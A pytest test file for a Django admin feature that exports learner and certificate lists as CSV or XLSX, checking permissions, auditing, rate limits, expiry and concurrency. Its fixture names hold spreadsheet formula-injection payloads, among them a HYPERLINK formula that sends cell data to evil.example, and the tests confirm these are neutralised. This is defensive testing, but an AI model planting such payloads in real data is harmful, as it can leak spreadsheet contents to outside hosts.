"""Lists as files: whole, harmless, private, a day old at most, and written once whatever happens meanwhile."""

from __future__ import annotations

import csv
import io
import re
import threading
import zipfile
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import UUID, uuid4
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import Permission
from django.core.files.storage import default_storage
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from wagtail.users.models import UserProfile

from accounts.models import AuditEntry, User
from administration import export_formats as formats
from administration.audit.acts import DOWNLOADED, EXPORTED
from administration.models import RecordExport
from administration.services import write_export as writing
from administration.services.expire_exports import expire_exports
from administration.services.request_export import MOST_AN_HOUR, request_export
from administration.services.write_export import FOLDER, write_export
from foundation.services.reconcile import reconcile
from tests.factories import enrol_in, finish_course, make_course, make_user
from tests.remembered import Remembered

pytestmark = pytest.mark.django_db
State, Format = RecordExport.State, RecordExport.Format
RIGHTS = ("access_admin", "view_enrolment", "view_attempt", "view_credential", "export_records")
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "José Ñuñez",
    "李小龍",
    "a;=1+1",
    "＝1+1",
    "Ana, la “mayor”",
)
# Called inside a test, what waits for the end of a transaction runs at once.
Capture = Callable[..., Any]


def staff(email: str = "staff@example.org", *codenames: str) -> User:
    person = make_user(email)
    UserProfile.objects.create(user=person, preferred_language="en")
    person.user_permissions.set(Permission.objects.filter(codename__in=codenames or RIGHTS))
    return person


@pytest.fixture(autouse=True)
def no_files() -> None:
    """Files in memory outlive a test."""
    if default_storage.exists(FOLDER):
        for name in default_storage.listdir(FOLDER)[1]:
            default_storage.delete(f"{FOLDER}/{name}")


@pytest.fixture
def person(client: Client) -> User:
    found = staff()
    client.force_login(found)
    return found


@pytest.fixture
def no_worker(monkeypatch: pytest.MonkeyPatch) -> None:
    """Exports are asked for, and no worker takes them up."""
    monkeypatch.setattr(type(writing.write_export_later), "enqueue", lambda self, *args, **kwargs: None)


@pytest.fixture
def ask(client: Client, django_capture_on_commit_callbacks: Capture) -> Callable[..., Any]:
    def asking(listing: str = "enrolments", kind: str = "csv", query: str = "") -> Any:
        with django_capture_on_commit_callbacks(execute=True):
            return client.post(f"/admin/exports/ask/{listing}/{query}", {"file_format": kind}, follow=True)

    return asking


def newest() -> RecordExport:
    return RecordExport.objects.order_by("-asked_at", "-pk")[0]


def body(client: Client, export: RecordExport) -> bytes:
    answer = client.get(reverse("record_exports:download", args=[export.pk]))
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)  # type: ignore[attr-defined]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[str]]:
    """The cells of a workbook, from its XML; fails for a formula or a link."""
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not [name for name in book.namelist() if "rels" in name and b"hyperlink" in book.read(name)]
        sheets = [ElementTree.fromstring(book.read(name)) for name in sorted(book.namelist()) if name.startswith("xl/worksheets/sheet")]
    found = []
    for sheet in sheets:
        assert sheet.find(".//m:f", space) is None
        assert sheet.find(".//m:hyperlink", space) is None
        found += [
            ["".join(text.text or "" for text in (cell.findall(".//m:t", space) or cell.findall("m:v", space))) for cell in row]
            for row in sheet.findall(".//m:row", space)
        ]
    return found


# What is in the file


@Remembered
def finished() -> None:
    course = make_course(title="Ética y migración")
    for number, name in enumerate(NAMES):
        finish_course(course, make_user(f"p{number}@example.org", printed_name=name))


@pytest.fixture
def named(db: None) -> None:
    finished()


def test_csv_holds_every_row_and_nothing_that_calculates(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    ask("certificates")
    headings, *lines = csv_rows(body(client, newest()))
    assert headings[:2] == ["Code", "Name printed"]
    names = [line[1] for line in lines]
    assert "José Ñuñez" in names
    assert "李小龍" in names
    assert "Ana, la “mayor”" in names
    assert {"'" + name for name in NAMES[:4]} <= set(names)
    assert "'＝1+1" in names
    assert "a;'=1+1" in names
    assert {line[3] for line in lines} == {"Ética y migración"}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", line[4]) for line in lines)


def test_xlsx_holds_every_name_as_it_is_and_as_text(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    ask("certificates", "xlsx")
    _headings, *lines = xlsx_cells(body(client, newest()))
    assert sorted(line[1] for line in lines) == sorted(NAMES)


@pytest.mark.parametrize("listing", ["learners", "enrolments", "attempts", "certificates"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_every_list_has_a_line_for_every_row(
    named: None, client: Client, person: User, ask: Callable[..., Any], listing: str, kind: str
) -> None:
    ask(listing, kind)
    export = newest()
    assert export.state == State.DONE
    content = body(client, export)
    lines = csv_rows(content) if kind == "csv" else xlsx_cells(content)
    assert len(lines) - 1 == export.rows_done == export.rows_total == len(NAMES) + (listing == "learners")
    assert export.size == len(content)


def test_the_filters_of_the_list_are_those_of_the_file(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    enrol_in(make_course(), make_user("other@example.org"))
    ask("enrolments", "csv", "?state=finished&q=jose&p=7&ordering=enrolled_on")
    export = newest()
    assert export.filters == {"state": "finished", "q": "jose"}
    lines = csv_rows(body(client, export))[1:]
    assert [line[1] for line in lines] == ["José Ñuñez"]


def test_headings_are_in_the_askers_language(named: None, client: Client, ask: Callable[..., Any]) -> None:
    person = staff()
    client.force_login(person)
    ask("enrolments")
    assert csv_rows(body(client, newest()))[0][:2] == ["E-mail address", "Name"]
    assert newest().language == "en"
    UserProfile.objects.update(preferred_language="fr")
    ask("enrolments")
    assert newest().language == "fr"


def test_batches_leave_nobody_out_and_name_nobody_twice(
    named: None, client: Client, person: User, ask: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writing, "BATCH", 2)
    for listing, column in (("enrolments", 0), ("certificates", 2), ("learners", 0)):
        ask(listing)
        lines = csv_rows(body(client, newest()))[1:]
        found = [line[column] for line in lines if line[column] != person.email]
        assert sorted(found) == sorted(f"p{number}@example.org" for number in range(len(NAMES))), listing


def test_more_rows_than_a_sheet_holds_go_on_in_another(
    named: None, client: Client, person: User, ask: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "SHEET_ROWS", 4)
    ask("certificates", "xlsx")
    lines = xlsx_cells(body(client, newest()))
    assert len([line for line in lines if line != lines[0]]) == len(NAMES)
    assert lines.count(lines[0]) == 3


# Who may have it


def test_it_is_an_attachment_that_nobody_keeps(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    ask()
    export = newest()
    answer = client.get(reverse("record_exports:download", args=[export.pk]))
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert {"private", "no-store"} <= set(answer["Cache-Control"].split(", "))
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(r"record-exports/[\w-]{43}\.csv", export.path)
    assert client.get(f"/media/{export.path}").status_code == 404


def test_a_file_that_can_not_be_opened_was_not_fetched(
    named: None, client: Client, person: User, ask: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Deleted between the look and the opening."""
    ask()
    export = newest()
    default_storage.delete(export.path)
    monkeypatch.setattr(default_storage, "exists", lambda path: True)
    answer = client.get(reverse("record_exports:download", args=[export.pk]), follow=True)
    assert answer.redirect_chain
    assert answer.status_code == 200
    assert not AuditEntry.objects.filter(action=DOWNLOADED.name).exists()


def test_somebody_elses_export_does_not_exist(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    ask()
    export = newest()
    client.force_login(User.objects.create_superuser("root@example.org"))
    assert client.get(reverse("record_exports:download", args=[export.pk])).status_code == 404
    assert client.get(reverse("record_exports:download", args=[uuid4()])).status_code == 404
    client.post(reverse("record_exports:delete", args=[export.pk]))
    assert str(export.pk) not in client.get("/admin/exports/").content.decode()
    export.refresh_from_db()
    assert export.state == State.DONE


@pytest.mark.parametrize("lost", ["export_records", "view_enrolment"])
def test_who_has_lost_the_right_gets_nothing(named: None, client: Client, person: User, ask: Callable[..., Any], lost: str) -> None:
    ask()
    person.user_permissions.remove(Permission.objects.get(codename=lost))
    assert client.get(reverse("record_exports:download", args=[newest().pk])).status_code in (302, 403)
    assert not AuditEntry.objects.filter(action=DOWNLOADED.name).exists()


@pytest.mark.database
@pytest.mark.parametrize("lost", ["right", "account"])
def test_nothing_is_read_for_who_has_lost_the_right_since_they_asked(named: None, person: User, no_worker: None, lost: str) -> None:
    export, _is_new = request_export(
        asked_by=person, listing="enrolments", filters={}, file_format=Format.CSV, language="es", now=timezone.now()
    )
    if lost == "right":
        person.user_permissions.remove(Permission.objects.get(codename="export_records"))
    else:
        User.objects.filter(pk=person.pk).update(is_active=False)
    assert not write_export(export_id=export.pk)
    export.refresh_from_db()
    assert (export.state, export.path) == (State.FAILED, "")
    assert not default_storage.exists(FOLDER) or not default_storage.listdir(FOLDER)[1]


def test_each_list_needs_its_own_right(client: Client, ask: Callable[..., Any]) -> None:
    client.force_login(staff("half@example.org", "access_admin", "view_enrolment", "export_records"))
    assert client.get("/admin/exports/ask/enrolments/").status_code == 200
    for listing in ("attempts", "certificates"):
        assert client.get(f"/admin/exports/ask/{listing}/").status_code in (302, 403)
        client.post(f"/admin/exports/ask/{listing}/", {"file_format": "csv"})
    assert client.get("/admin/exports/ask/secrets/").status_code == 404
    assert not RecordExport.objects.exists()


def test_asking_and_fetching_are_written_down_without_names(named: None, client: Client, person: User, ask: Callable[..., Any]) -> None:
    learner = User.objects.get(email="p4@example.org")
    ask("enrolments", "csv", f"?q=p4@example.org&state=finished&learner={learner.pk}")
    body(client, newest())
    entries = list(AuditEntry.objects.order_by("pk"))
    assert [entry.action for entry in entries] == [EXPORTED.name, DOWNLOADED.name]
    for entry in entries:
        assert entry.actor_id == person.pk
        assert entry.subject_key == str(newest().pk)
        assert entry.details == {"listing": "enrolments", "format": "csv", "filters": {"state": "finished"}, "searched": True}


def test_looking_at_the_page_asks_for_nothing(client: Client, person: User) -> None:
    assert client.get("/admin/exports/ask/enrolments/?state=finished").status_code == 200
    assert client.get("/admin/exports/").status_code == 200
    assert client.get(reverse("record_exports:delete", args=[uuid4()])).status_code == 405
    assert not RecordExport.objects.exists()
    assert not AuditEntry.objects.exists()


@pytest.mark.parametrize("query", ["?course=abc", "?enrolled_from=yesterday", "?learner=abc", "?state=%00"])
def test_filters_that_mean_nothing_export_nothing(client: Client, person: User, query: str) -> None:
    assert client.get(f"/admin/exports/ask/enrolments/{query}").status_code == 200
    assert client.post(f"/admin/exports/ask/enrolments/{query}", {"file_format": "csv"}).status_code == 422
    assert client.post("/admin/exports/ask/enrolments/", {"file_format": "exe"}).status_code == 422
    assert not RecordExport.objects.exists()


# How often


def test_the_same_list_asked_ten_times_is_written_once(client: Client, person: User, ask: Callable[..., Any], no_worker: None) -> None:
    answers = [ask("enrolments", "csv", "?state=finished") for _click in range(10)]
    assert RecordExport.objects.count() == 1
    assert AuditEntry.objects.count() == 1
    assert {answer.status_code for answer in answers} == {200}
    assert answers[9].context["messages"]


def test_another_list_waits_until_the_first_is_ready(client: Client, person: User, ask: Callable[..., Any], no_worker: None) -> None:
    ask("enrolments")
    for other in (("learners", "csv", ""), ("enrolments", "xlsx", ""), ("enrolments", "csv", "?state=finished")):
        assert [message.level_tag for message in ask(*other).context["messages"]] == ["warning"]
    assert RecordExport.objects.count() == 1


@pytest.mark.database
def test_the_sixth_in_an_hour_is_told_when(client: Client, person: User, ask: Callable[..., Any]) -> None:
    make_course()
    for _time in range(MOST_AN_HOUR):
        ask()
    assert RecordExport.objects.filter(state=State.DONE).count() == MOST_AN_HOUR
    for _click in range(5):
        answer = ask()
        assert answer.status_code == 200
        assert "warning" in [message.level_tag for message in answer.context["messages"]]
    assert RecordExport.objects.count() == MOST_AN_HOUR
    RecordExport.objects.update(asked_at=timezone.now() - timedelta(minutes=61))
    ask()
    assert RecordExport.objects.count() == MOST_AN_HOUR + 1


@pytest.mark.database
def test_deleting_does_not_give_the_hour_back(
    client: Client, person: User, ask: Callable[..., Any], django_capture_on_commit_callbacks: Capture
) -> None:
    make_course()
    for _time in range(MOST_AN_HOUR + 1):
        ask()
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("record_exports:delete", args=[newest().pk]))
    assert RecordExport.objects.count() == MOST_AN_HOUR
    assert not default_storage.listdir(FOLDER)[1]


# What becomes of it


def asked(person: User, **values: Any) -> RecordExport:
    return RecordExport.objects.create(**{"asked_by": person, "listing": "enrolments", "language": "es", **values})


def test_progress_is_shown_and_the_page_works_without_javascript(client: Client, person: User) -> None:
    asked(person, state=State.RUNNING, rows_done=30, rows_total=120)
    page = client.get("/admin/exports/").content.decode()
    assert re.search(r'<progress [^>]*max="100" value="25">25%</progress>', page)
    assert re.search(r'<noscript><p><a href="">[^<]+</a></p></noscript>', page)
    RecordExport.objects.update(state=State.DONE)
    assert '<a href="">' not in client.get("/admin/exports/").content.decode()


def test_the_page_that_is_asked_for_every_two_seconds_stays_cheap(client: Client, person: User) -> None:
    course = make_course(title="Finance")
    listings = ("learners", "enrolments", "attempts", "certificates")
    for number in range(40):
        filters = {"q": f"maria {number}"} | ({"course": str(course.key)} if number % 4 else {"language": "pt"})
        asked(person, listing=listings[number % 4], filters=filters, state=State.DONE, asked_at=timezone.now() - timedelta(minutes=number))
    RecordExport.objects.filter(filters__q="maria 39").update(state=State.RUNNING)
    client.get("/admin/exports/")
    for page, first in (("1", 0), ("2", 20)):
        with CaptureQueriesContext(connection) as queries:
            answer = client.get("/admin/exports/", {"p": page})
        assert len(queries) <= 25
        shown = answer.content.decode()
        assert [f"maria {number}<" in shown or f"maria {number};" in shown for number in range(40)].count(True) == 20
        assert f"maria {first};" in shown
        assert "Finance" in shown
        assert 'data-under-way="yes"' in shown, "also while the one under way is on another page"
    assert client.get("/admin/exports/", {"p": "abc"}).status_code == 200


def test_progress_goes_on_in_steps(named: None, person: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "BATCH", 3)
    seen = []
    report = writing._report
    monkeypatch.setattr(writing, "_report", lambda export, **values: (seen.append(values), report(export, **values)))
    write_export(export_id=asked(person).pk)
    assert seen == [{"rows_total": 9}, {"rows_done": 3}, {"rows_done": 6}, {"rows_done": 9}]


def dies_after(monkeypatch: pytest.MonkeyPatch, lines: int, error: type[BaseException]) -> None:
    """Let the writer die after some lines."""
    written = [0]
    write = formats.CsvWriter.write

    def writing(self: Any, values: list[Any]) -> None:
        written[0] += 1
        if written[0] > lines:
            raise error
        write(self, values)

    monkeypatch.setattr(formats.CsvWriter, "write", writing)


def test_killed_in_the_middle_it_is_begun_again(named: None, client: Client, person: User, monkeypatch: pytest.MonkeyPatch) -> None:
    export = asked(person)
    with monkeypatch.context() as death:
        dies_after(death, 4, KeyboardInterrupt)
        with pytest.raises(KeyboardInterrupt):
            write_export(export_id=export.pk)
    export.refresh_from_db()
    assert export.state == State.RUNNING
    assert not default_storage.exists(export.path), "no half file"
    assert reconcile(now=timezone.now())["exports"] == 0, "it may still be alive"
    RecordExport.objects.update(moved_at=timezone.now() - timedelta(minutes=11))
    assert reconcile(now=timezone.now())["exports"] == 1
    export.refresh_from_db()
    assert (export.state, export.run, export.rows_done) == (State.DONE, 2, 9)
    assert len(csv_rows(body(client, export))) == 10
    assert reconcile(now=timezone.now())["exports"] == 0


def test_a_lost_task_is_found(named: None, person: User) -> None:
    asked(person, moved_at=timezone.now() - timedelta(minutes=11))
    reconcile(now=timezone.now())
    assert newest().state == State.DONE


def test_a_worker_thought_dead_does_not_write_over_the_next(named: None, person: User, monkeypatch: pytest.MonkeyPatch) -> None:
    export = asked(person)
    monkeypatch.setattr(writing, "BATCH", 3)
    lines, others = writing._lines, []

    def slow(mine: RecordExport, *args: Any) -> Any:
        for number, line in enumerate(lines(mine, *args)):
            if number == 4 and mine.run == 1:
                RecordExport.objects.update(moved_at=timezone.now() - timedelta(minutes=11))
                others.append(write_export(export_id=export.pk))
            yield line

    monkeypatch.setattr(writing, "_lines", slow)
    assert write_export(export_id=export.pk) is False
    assert others == [True]
    export.refresh_from_db()
    assert (export.state, export.run) == (State.DONE, 2)
    assert len(default_storage.listdir(FOLDER)[1]) == 1


def test_twice_is_once(named: None, person: User) -> None:
    export = asked(person)
    assert write_export(export_id=export.pk) is True
    assert write_export(export_id=export.pk) is False
    assert write_export(export_id=uuid4()) is False
    running = asked(person, state=State.RUNNING)
    assert write_export(export_id=running.pk) is False


def test_what_fails_says_so_and_offers_nothing(named: None, client: Client, person: User, monkeypatch: pytest.MonkeyPatch) -> None:
    export = asked(person, filters={"q": "p", "state": "finished"})
    dies_after(monkeypatch, 4, OSError)
    with pytest.raises(OSError):  # noqa: PT011 - any: the disk is full
        write_export(export_id=export.pk)
    export.refresh_from_db()
    assert (export.state, export.path) == (State.FAILED, "")
    assert export.filters == {"state": "finished"}, "what was searched for may be a person"
    page = client.get("/admin/exports/").content.decode()
    assert reverse("record_exports:download", args=[export.pk]) not in page
    assert client.get(reverse("record_exports:download", args=[export.pk])).status_code == 302
    assert not AuditEntry.objects.exists()


def test_what_kills_every_worker_is_given_up(person: User) -> None:
    searched = {"q": "ana@example.org", "learner": "1", "state": "finished"}
    export = asked(person, state=State.RUNNING, run=3, moved_at=timezone.now() - timedelta(hours=1), filters=searched)
    assert write_export(export_id=export.pk) is False
    export.refresh_from_db()
    assert (export.state, export.filters) == (State.FAILED, {"state": "finished"})


@pytest.mark.database
def test_it_goes_after_a_day(named: None, client: Client, person: User, django_capture_on_commit_callbacks: Capture) -> None:
    export = asked(person)
    write_export(export_id=export.pk)
    export.refresh_from_db()
    RecordExport.objects.update(asked_at=timezone.now() - timedelta(hours=24, minutes=1))
    assert client.get(reverse("record_exports:download", args=[export.pk])).status_code == 302, "also before anyone has swept"
    with django_capture_on_commit_callbacks(execute=True):
        assert reconcile(now=timezone.now())["expired-exports"] == 1
    assert not default_storage.exists(export.path)
    assert not RecordExport.objects.exists()
    assert expire_exports(now=timezone.now()) == 0


def test_files_go_with_the_account_that_asked(named: None, person: User, django_capture_on_commit_callbacks: Capture) -> None:
    export = asked(person)
    write_export(export_id=export.pk)
    export.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=True):
        person.delete()
    assert not default_storage.exists(export.path)
    assert not RecordExport.objects.exists()


def test_a_file_goes_with_its_row_by_whatever_way(named: None, person: User, django_capture_on_commit_callbacks: Capture) -> None:
    export = asked(person)
    write_export(export_id=export.pk)
    export.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=True):
        RecordExport.objects.all().delete()
    assert not default_storage.exists(export.path)


# At once


@pytest.mark.database
@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_ten_clicks_at_once_are_one(no_worker: None) -> None:
    make_course()
    person = staff()
    made: list[tuple[UUID, bool]] = []

    def click() -> None:
        try:
            export, is_new = request_export(
                asked_by=person, listing="enrolments", filters={}, file_format=Format.CSV, language="es", now=timezone.now()
            )
            made.append((export.pk, is_new))
        finally:
            connection.close()

    clicks = [threading.Thread(target=click) for _click in range(10)]
    for one in clicks:
        one.start()
    for one in clicks:
        one.join()
    assert len(made) == 10
    assert len({pk for pk, _is_new in made}) == 1
    assert sum(is_new for _pk, is_new in made) == 1
    assert AuditEntry.objects.count() == 1


@pytest.mark.database
@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_five_workers_at_once_write_one_file() -> None:
    finish_course(make_course())
    export = asked(staff())
    wrote: list[bool] = []

    def work() -> None:
        try:
            wrote.append(write_export(export_id=export.pk))
        finally:
            connection.close()

    workers = [threading.Thread(target=work) for _worker in range(5)]
    for one in workers:
        one.start()
    for one in workers:
        one.join()
    assert sorted(wrote) == [False] * 4 + [True]
    export.refresh_from_db()
    assert (export.state, export.run) == (State.DONE, 1)
